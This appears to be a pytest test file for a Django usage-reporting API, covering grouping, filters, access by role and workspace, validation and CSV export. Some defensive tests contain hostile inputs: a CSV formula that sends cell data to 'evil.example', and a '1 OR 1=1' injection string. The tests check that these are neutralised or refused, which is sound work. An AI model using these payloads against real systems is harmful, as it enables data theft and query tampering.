"""GET /api/v1/usage."""

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest
from django.test import Client

from accounts import api_keys, clock, ids, workspaces
from accounts.ids import Prefix
from accounts.key_terms import Terms
from accounts.models import ApiKey, Membership, Scope, Side, User, Workspace
from accounts.roles import Role
from billing import ledger, usage_reports
from billing.models import Source, UsageRecord
from tests import factories
from tests.billing.steps import hold, sell, use
from tests.gateway import wire

USAGE = "/api/v1/usage"
MARCH = {"from": "2026-03-01", "to": "2026-03-31"}
NOON = datetime(2026, 3, 10, 12, tzinfo=UTC)
EVERYTHING = "day,model,key,member,end_user"


def ask(api: Client, **query: Any) -> dict[str, Any]:
    response = api.get(USAGE, query)
    assert response.status_code == 200, response.content
    body: dict[str, Any] = response.json()
    return body


def in_march(api: Client, **query: Any) -> dict[str, Any]:
    return ask(api, **MARCH, **query)


def credits_by(report: dict[str, Any], name: str) -> list[tuple[Any, int]]:
    return [(row[name], row["credits"]) for row in report["data"]]


def member_id(membership: Membership) -> str:
    return ids.public(Prefix.MEMBERSHIP, membership.pk)


def key_id(plain_text: str) -> str:
    found = ApiKey.objects.across_workspaces().get(key_id=plain_text.split("_")[2])
    return ids.public(Prefix.KEY, found.pk)


class TestReport:
    def test_is_this_month_so_far_by_day(self, api: Client) -> None:
        wire.finished(api, num_images=2)

        shown = ask(api)

        today = clock.now().date()
        assert (shown["from"], shown["to"]) == (str(today.replace(day=1)), str(today))
        assert (shown["time_zone"], shown["group_by"], shown["has_more"]) == ("UTC", ["day"], False)
        (row,) = shown["data"]
        gpu_ms = row.pop("gpu_ms")
        assert row == {
            "day": str(today),
            "jobs": 1,
            "images": 2,
            "credits": 20,
            "pixels": 2 * 64 * 64,
            "evaluations": 2 * 4,
        }
        assert shown["totals"] == {**{name: row[name] for name in row if name != "day"}, "gpu_ms": gpu_ms}

    def test_is_empty_before_the_first_job(self, api: Client) -> None:
        shown = ask(api)

        assert (shown["data"], shown["ledger_credits"]) == ([], 0)
        assert set(shown["totals"].values()) == {0}

    def test_equals_the_ledger(self, api: Client) -> None:
        wire.finished(api, num_images=3)
        wire.finished(api, "a blank! boat")
        wire.finished(api, "a fail! boat")
        wire.generate(api)

        shown = ask(api)

        assert shown["totals"]["credits"] == shown["ledger_credits"] == 30

    def test_tells_when_the_ledger_captured_something_else(self, api: Client, workspace: Workspace) -> None:
        sell(hold(workspace, 30), 20, NOON)
        use(workspace, NOON, credits=1)

        shown = in_march(api)

        assert (shown["totals"]["credits"], shown["ledger_credits"]) == (21, 20)

    def test_covers_the_last_day_to_its_end_in_the_workspaces_zone(
        self, api: Client, workspace: Workspace
    ) -> None:
        Workspace.objects.filter(pk=workspace.pk).update(time_zone="Europe/Berlin")
        for moment, credits in (
            (datetime(2026, 2, 28, 22, 59, tzinfo=UTC), 1),
            (datetime(2026, 2, 28, 23, 0, tzinfo=UTC), 2),
            (datetime(2026, 3, 31, 21, 59, tzinfo=UTC), 4),
            (datetime(2026, 3, 31, 22, 0, tzinfo=UTC), 8),
        ):
            use(workspace, moment, credits=credits)

        shown = in_march(api)

        assert credits_by(shown, "day") == [("2026-03-01", 2), ("2026-03-31", 4)]
        assert (shown["since_at"], shown["until_at"]) == ("2026-02-28T23:00:00Z", "2026-03-31T22:00:00Z")
        assert shown["time_zone"] == "Europe/Berlin"

    def test_begins_with_the_month_of_its_last_day(self, api: Client) -> None:
        assert ask(api, to="2026-03-10")["from"] == "2026-03-01"

    def test_ends_today_without_a_last_day(self, api: Client) -> None:
        today = clock.now().date()

        assert ask(api, **{"from": str(today)})["to"] == str(today)

    def test_may_be_the_totals_alone(self, api: Client, workspace: Workspace) -> None:
        use(workspace, NOON, credits=3)

        shown = in_march(api, group_by="")

        assert (shown["group_by"], shown["data"]) == ([], [shown["totals"]])

    def test_names_its_groups_in_one_order(self, api: Client) -> None:
        assert in_march(api, group_by="model, day,model")["group_by"] == ["day", "model"]

    def test_shows_the_first_rows_and_the_totals_of_all(self, api: Client, workspace: Workspace) -> None:
        for day in (1, 2, 3):
            use(workspace, NOON.replace(day=day), credits=day)

        shown = in_march(api, limit=2)

        assert credits_by(shown, "day") == [("2026-03-01", 1), ("2026-03-02", 2)]
        assert (shown["has_more"], shown["totals"]["credits"]) == (True, 6)


class TestGroups:
    def test_name_model_key_member_and_end_user(
        self, api: Client, key: str, membership: Membership, alice: User
    ) -> None:
        wire.finished(api, user="customer 17")

        (row,) = ask(api, group_by=EVERYTHING)["data"]

        assert row["model"] == "fake@1"
        assert row["key"] == {"id": key_id(key), "name": "alice's key", "prefix": key[:21]}
        assert row["member"] == {"id": member_id(membership), "email": alice.email}
        assert len(row["end_user"]) == 64

    def test_say_null_where_nobody_is_named(self, workspace: Workspace, model: Any) -> None:
        service = wire.client(api_keys.issue(workspace, "service").plain_text)
        wire.finished(service)

        (row,) = ask(service, group_by="member,end_user")["data"]

        assert (row["member"], row["end_user"]) == (None, None)

    def test_keep_the_ids_of_what_was_deleted(self, api: Client, workspace: Workspace) -> None:
        gone_key, gone_member = ids.new_id(), ids.new_id()
        use(workspace, NOON, api_key_id=gone_key, membership_id=gone_member)

        (row,) = in_march(api, group_by="key,member")["data"]

        assert row["key"] == {"id": ids.public(Prefix.KEY, gone_key), "name": None, "prefix": None}
        assert row["member"] == {"id": ids.public(Prefix.MEMBERSHIP, gone_member), "email": None}

    def test_still_name_a_removed_member(
        self, api: Client, workspace: Workspace, bobs_membership: Membership, bob: User
    ) -> None:
        use(workspace, NOON, membership_id=bobs_membership.pk)
        Membership.objects.for_workspace(workspace).filter(pk=bobs_membership.pk).update(removed_at=NOON)

        (row,) = in_march(api, group_by="member")["data"]

        assert row["member"]["email"] == bob.email

    def test_name_nothing_of_another_workspace(
        self, api: Client, workspace: Workspace, charlies_workspace: Workspace
    ) -> None:
        """A usage row never holds a stranger's id; if one did, the name would still not be told."""
        foreign = api_keys.issue(charlies_workspace, "charlie's secret project").key
        use(workspace, NOON, api_key_id=foreign.pk)

        (row,) = in_march(api, group_by="key")["data"]

        assert row["key"]["name"] is None


class TestFilters:
    @pytest.fixture(autouse=True)
    def used(self, workspace: Workspace, model: Any, membership: Membership) -> None:
        factories.fake_model("other")
        use(workspace, NOON, credits=1, sku="fake@1", membership_id=membership.pk)
        use(workspace, NOON, credits=2, sku="fake@2")
        use(workspace, NOON, credits=4, sku="other@1")

    @pytest.mark.parametrize(
        "name, credits", [("fake", 1), ("fake@1", 1), ("fake-alias", 1), ("other", 4), ("other@1", 4)]
    )
    def test_take_any_name_of_a_model(self, api: Client, name: str, credits: int) -> None:
        assert in_march(api, model=name)["totals"]["credits"] == credits

    def test_by_model_are_of_all_its_versions(self, api: Client) -> None:
        factories.fake_model(max_steps=10)

        assert in_march(api, model="fake")["totals"]["credits"] == 3
        assert in_march(api, model="fake@1")["totals"]["credits"] == 1

    @pytest.mark.parametrize("name", ["absent", "fake@9", "@", "../x", "fake%"])
    def test_know_no_model_that_does_not_exist(self, api: Client, name: str) -> None:
        wire.assert_is_problem(api.get(USAGE, {**MARCH, "model": name}), 404, "model_not_found")

    def test_by_key_and_member(self, api: Client, key: str, membership: Membership) -> None:
        wire.finished(api)

        assert ask(api, key=key_id(key))["totals"]["credits"] == 10
        assert in_march(api, member=member_id(membership))["totals"]["credits"] == 1

    def test_by_end_user_take_the_callers_own_id(self, api: Client) -> None:
        wire.finished(api, user="customer 17")
        wire.finished(api, user="customer 18", num_images=2)

        assert ask(api, end_user="customer 17")["totals"]["credits"] == 10
        assert ask(api, end_user="customer 1")["totals"]["credits"] == 0

    def test_hash_an_end_user_for_one_workspace(self, api: Client, charlies_api: Client) -> None:
        wire.finished(api, user="customer 17")

        assert ask(charlies_api, end_user="customer 17")["totals"]["credits"] == 0

    def test_leave_no_comparison_with_the_ledger(self, api: Client) -> None:
        assert in_march(api, model="fake")["ledger_credits"] is None

    def test_on_what_is_foreign_find_as_little_as_on_what_never_was(
        self, api: Client, charlies_workspace: Workspace, charlies_api: Client
    ) -> None:
        ledger.grant(charlies_workspace.pk, 10, Source.PACK, "test:charlie's")
        wire.finished(charlies_api)
        foreign = UsageRecord.objects.for_workspace(charlies_workspace).get()
        assert foreign.api_key_id

        shown = ask(api, key=ids.public(Prefix.KEY, foreign.api_key_id))

        assert shown["data"] == []
        assert shown == ask(api, key=ids.public(Prefix.KEY, ids.new_id()))


class TestWhoSeesUse:
    @pytest.fixture
    def used_by_both(self, api: Client, bobs_api: Client) -> None:
        wire.finished(api)
        wire.finished(bobs_api, num_images=2, user="customer 17")

    def test_not_a_stranger(self, used_by_both: None, charlies_api: Client) -> None:
        shown = ask(charlies_api, group_by=EVERYTHING)

        assert (shown["data"], shown["totals"]["jobs"], shown["ledger_credits"]) == ([], 0, 0)

    @pytest.mark.parametrize("group_by", ["", *EVERYTHING.split(","), EVERYTHING])
    def test_a_member_their_own_in_every_grouping(
        self, used_by_both: None, bobs_api: Client, group_by: str
    ) -> None:
        shown = ask(bobs_api, group_by=group_by)

        assert [row["credits"] for row in shown["data"]] == [20]
        assert (shown["totals"]["credits"], shown["ledger_credits"]) == (20, None)

    def test_a_member_not_anothers_by_a_filter(
        self,
        used_by_both: None,
        bobs_api: Client,
        membership: Membership,
        bobs_membership: Membership,
        key: str,
    ) -> None:
        assert ask(bobs_api, member=member_id(membership))["data"] == []
        assert ask(bobs_api, key=key_id(key))["data"] == []
        assert ask(bobs_api, member=member_id(bobs_membership))["totals"]["credits"] == 20

    def test_the_owner_all(self, used_by_both: None, api: Client) -> None:
        shown = ask(api, group_by="member")

        assert sorted(row["member"]["email"] for row in shown["data"]) == [
            "alice@example.com",
            "bob@example.com",
        ]
        assert (shown["totals"]["credits"], shown["ledger_credits"]) == (30, 30)

    @pytest.mark.parametrize("role", [Role.ADMIN, Role.BILLING])
    def test_an_admin_and_a_bookkeeper_all(
        self, used_by_both: None, workspace: Workspace, charlie: User, role: Role
    ) -> None:
        place = workspaces.add_member(workspace, charlie, role)
        issued = api_keys.issue(workspace, "charlie's", membership=place)

        assert ask(wire.client(issued.plain_text))["ledger_credits"] == 30

    def test_not_a_viewer(self, workspace: Workspace, bob: User, model: Any) -> None:
        viewer = workspaces.add_member(workspace, bob, Role.VIEWER)
        issued = api_keys.issue(workspace, "viewer's", membership=viewer)

        wire.assert_is_problem(wire.client(issued.plain_text).get(USAGE), 403, "role_forbids")

    def test_not_the_other_side(self, api: Client, test_side_api: Client) -> None:
        wire.finished(api)
        wire.finished(test_side_api, num_images=2)

        assert (ask(api)["ledger_credits"], ask(test_side_api)["ledger_credits"]) == (10, 20)
        assert (ask(api)["totals"]["credits"], ask(test_side_api)["totals"]["credits"]) == (10, 20)

    def test_not_a_key_without_the_scope(self, workspace: Workspace, model: Any) -> None:
        issued = api_keys.issue(workspace, "images only", terms=Terms(scopes=(Scope.IMAGES,)))

        wire.assert_is_problem(wire.client(issued.plain_text).get(USAGE), 403, "scope_missing")


class TestRefusals:
    @pytest.mark.parametrize(
        "query, field",
        [
            ({"group_by": "week"}, "group_by"),
            ({"group_by": "day;model"}, "group_by"),
            ({"from": "2026-03-31", "to": "2026-03-01"}, "from"),
            ({"from": "2025-01-01", "to": "2026-03-01"}, "from"),
            ({"from": "0001-01-01"}, "from"),
            ({"to": "9999-12-31"}, "to"),
            ({"from": "1999-12-31", "to": "2000-01-01"}, "from"),
            ({"from": "2026-02-30"}, "from"),
            ({"from": "2026-3-1"}, "from"),
            ({"from": "20260301"}, "from"),
            ({"from": "2026-W10-1"}, "from"),
            ({"from": "2026-03-01T00:00"}, "from"),
            ({"from": ""}, "from"),
            ({"from": "２０２６-03-01"}, "from"),
            ({"key": "mem_" + "0" * 26}, "key"),
            ({"key": "1 OR 1=1"}, "key"),
            ({"key": ""}, "key"),
            ({"member": "me"}, "member"),
            ({"model": ""}, "model"),
            ({"model": "a\x00b"}, "model"),
            ({"end_user": ""}, "end_user"),
            ({"end_user": "\x00"}, "end_user"),
            ({"limit": "0"}, "limit"),
            ({"limit": "10001"}, "limit"),
            ({"limit": "9" * 5_000}, "limit"),
            ({"format": "xml"}, "format"),
            ({"api_key": "x"}, "api_key"),
            ({"group_by": ["day", "model"]}, "group_by"),
            ({"model": ["a", "b"]}, "model"),
        ],
    )
    def test_name_the_parameter(self, api: Client, query: dict[str, Any], field: str) -> None:
        response = api.get(USAGE, query)

        wire.assert_is_problem(response, 422, "invalid_request")
        assert response.json()["errors"][0]["field"] == field

    def test_take_400_days_and_not_401(self, api: Client) -> None:
        assert api.get(USAGE, {"from": "2025-01-01", "to": "2026-02-04"}).status_code == 200
        response = api.get(USAGE, {"from": "2025-01-01", "to": "2026-02-05"})

        wire.assert_is_problem(response, 422, "invalid_request")
        assert "401 days" in response.json()["detail"]

    @pytest.mark.parametrize("zone", ["Pacific/Kiritimati", "Pacific/Pago_Pago"])
    @pytest.mark.parametrize("day", ["2000-01-01", "2100-12-31"])
    def test_know_the_edges_of_time_in_every_zone(
        self, api: Client, workspace: Workspace, zone: str, day: str
    ) -> None:
        Workspace.objects.filter(pk=workspace.pk).update(time_zone=zone)

        assert ask(api, **{"from": day, "to": day})["data"] == []

    def test_tell_how_to_narrow_a_report_that_is_too_large(self, api: Client, workspace: Workspace) -> None:
        first = use(workspace, NOON)
        fields = {
            column.attname: getattr(first, column.attname) for column in UsageRecord._meta.concrete_fields
        }
        UsageRecord.objects.bulk_create(
            UsageRecord(
                **{**fields, "id": ids.new_id(), "reference": str(number), "end_user_hash": str(number)}
            )
            for number in range(usage_reports.MAX_ROWS)
        )

        response = api.get(USAGE, {**MARCH, "group_by": "end_user"})

        wire.assert_is_problem(response, 422, "report_too_large")
        assert "fewer days" in response.json()["detail"]
        assert in_march(api)["totals"]["jobs"] == usage_reports.MAX_ROWS + 1

    def test_need_a_key(self, client: Client, db: None) -> None:
        wire.assert_is_problem(client.get(USAGE, headers={"Accept": "text/csv"}), 401, "missing_api_key")


class TestCsv:
    def _rows(self, response: Any) -> list[dict[str, str]]:
        assert (response.status_code, response["Content-Type"]) == (200, "text/csv; charset=utf-8")
        return list(csv.DictReader(io.StringIO(response.content.decode(), newline=""), strict=True))

    def test_has_the_numbers_of_the_json(self, api: Client, bobs_api: Client) -> None:
        wire.finished(api, user="customer 17")
        wire.finished(bobs_api, num_images=2)

        shown = ask(api, group_by=EVERYTHING)["data"]
        rows = self._rows(api.get(USAGE, {"group_by": EVERYTHING, "format": "csv"}))

        numbers = ("jobs", "images", "credits", "pixels", "evaluations", "gpu_ms")
        assert [[int(row[name]) for name in numbers] for row in rows] == [
            [row[name] for name in numbers] for row in shown
        ]
        assert [row["key_id"] for row in rows] == [row["key"]["id"] for row in shown]
        assert [row["member_email"] for row in rows] == [row["member"]["email"] for row in shown]
        assert [row["end_user"] or None for row in rows] == [row["end_user"] for row in shown]

    def test_has_a_header_row_and_the_line_ends_of_the_standard(
        self, api: Client, workspace: Workspace
    ) -> None:
        use(workspace, NOON, credits=3)

        response = api.get(USAGE, {**MARCH, "format": "csv"})

        assert response.content.decode() == (
            '"day","jobs","images","credits","pixels","evaluations","gpu_ms"\r\n'
            '"2026-03-10",1,1,3,4096,4,120\r\n'
        )

    def test_is_a_file_with_the_period_in_its_name(self, api: Client) -> None:
        response = api.get(USAGE, {**MARCH, "format": "csv"})

        assert response["Content-Disposition"] == 'attachment; filename="usage-2026-03-01-to-2026-03-31.csv"'

    @pytest.mark.parametrize(
        "accept, content_type",
        [
            ("text/csv", "text/csv; charset=utf-8"),
            ("text/csv, */*;q=0.1", "text/csv; charset=utf-8"),
            ("*/*", "application/json"),
            ("application/json, text/csv;q=0.5", "application/json"),
            ("text/html", "application/json"),
            ("nonsense", "application/json"),
        ],
    )
    def test_may_be_asked_for_in_the_header(self, api: Client, accept: str, content_type: str) -> None:
        response = api.get(USAGE, headers={"Accept": accept})

        assert (response["Content-Type"], response["Vary"]) == (content_type, "Accept")

    def test_is_not_given_when_the_query_asks_for_json(self, api: Client) -> None:
        response = api.get(USAGE, {"format": "json"}, headers={"Accept": "text/csv"})

        assert response["Content-Type"] == "application/json"

    def test_has_empty_cells_where_nobody_is_named(self, api: Client, workspace: Workspace) -> None:
        use(workspace, NOON)

        (row,) = self._rows(api.get(USAGE, {**MARCH, "group_by": "key,member,end_user", "format": "csv"}))

        names = ("key_id", "key_name", "key_prefix", "member_id", "member_email", "end_user")
        assert [row[name] for name in names] == [""] * len(names)

    @pytest.mark.parametrize(
        "start", ["=", "+", "-", "@", " =", "\u00a0=", "\u200b=", "\ufeff =", "＝", "＋", "－", "＠", "﹣"]
    )
    def test_defuses_formulas(self, api: Client, workspace: Workspace, start: str) -> None:
        name = f'{start}HYPERLINK("http://evil.example/"&A1,"open")'
        used = use(workspace, NOON, api_key_id=api_keys.issue(workspace, name).key.pk)
        assert used.side == Side.LIVE

        (row,) = self._rows(api.get(USAGE, {**MARCH, "group_by": "key", "format": "csv"}))

        assert row["key_name"] == f"'{name}"

    @pytest.mark.parametrize("end", [";", "\t", "\r", "\n"])
    def test_defuses_formulas_where_other_countries_begin_a_cell(
        self, api: Client, workspace: Workspace, end: str
    ) -> None:
        use(workspace, NOON, api_key_id=api_keys.issue(workspace, f"a{end}=1+1{end}b-c").key.pk)

        response = api.get(USAGE, {**MARCH, "group_by": "key", "format": "csv"})

        (row,) = self._rows(response)
        assert row["key_name"] == f"a{end}'=1+1{end}b-c"
        assert f'"{row["key_name"]}"' in response.content.decode()

    def test_keeps_names_with_commas_quotes_and_line_ends(self, api: Client, workspace: Workspace) -> None:
        name = 'a, "b"\r\nc'
        use(workspace, NOON, api_key_id=api_keys.issue(workspace, name).key.pk)

        (row,) = self._rows(api.get(USAGE, {**MARCH, "group_by": "key", "format": "csv"}))

        assert row["key_name"] == name
